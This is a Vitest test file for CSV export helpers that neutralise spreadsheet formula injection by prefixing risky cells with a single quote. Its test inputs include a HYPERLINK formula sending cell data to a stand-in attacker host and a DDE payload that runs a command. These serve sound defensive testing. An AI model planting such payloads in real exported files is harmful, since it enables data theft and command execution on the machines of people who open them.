import { describe, expect, it } from 'vitest'
import { csvCell, csvDocument, neutralizeFormula } from '../../../shared/domain/csv/cell.ts'

describe('Function: neutralizeFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1)', `'=HYPERLINK("http://evil.example/?"&A1)`],
    ['+SUM(1+1)', `'+SUM(1+1)`],
    [`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`],
    ['@SUM(1)', `'@SUM(1)`],
    ['\t=1+1', `'\t=1+1`],
    ['\r=1+1', `'\r=1+1`],
    ['-3', `'-3`],
  ])('Attack: prefixes %j with a single quote, keeping the rest', (text, expected) => {
    expect(neutralizeFormula(text)).toBe(expected)
  })

  it.each(['Safety 101', 'a=b', ' =1+1', "'quoted", '', '2024-01-01T00:00:00.000Z', '\n=1'])(
    'keeps %j as it is',
    (text) => {
      expect(neutralizeFormula(text)).toBe(text)
    },
  )
})

describe('Function: csvCell', () => {
  it('writes numbers and booleans as they are, even negative: only text is neutralised', () => {
    expect(csvCell(-3)).toBe('-3')
    expect(csvCell(1.5)).toBe('1.5')
    expect(csvCell(0)).toBe('0')
    expect(csvCell(true)).toBe('true')
    expect(csvCell('-3')).toBe(`'-3`)
  })

  it('writes null and undefined as empty fields', () => {
    expect(csvCell(null)).toBe('')
    expect(csvCell(undefined)).toBe('')
  })

  it('quotes a field holding a quote, comma or line break, after neutralising it', () => {
    expect(csvCell('Safety, "Level 1"')).toBe('"Safety, ""Level 1"""')
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`)
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`)
    expect(csvCell('line\nbreak')).toBe('"line\nbreak"')
  })
})

describe('Function: csvDocument', () => {
  it('writes a BOM, the header and every row with CRLF', () => {
    expect(
      csvDocument(
        ['title', 'score'],
        [
          ['@SUM(1)', -1],
          [null, 2],
        ],
      ),
    ).toBe(`\uFEFFtitle,score\r\n'@SUM(1),-1\r\n,2\r\n`)
  })
})
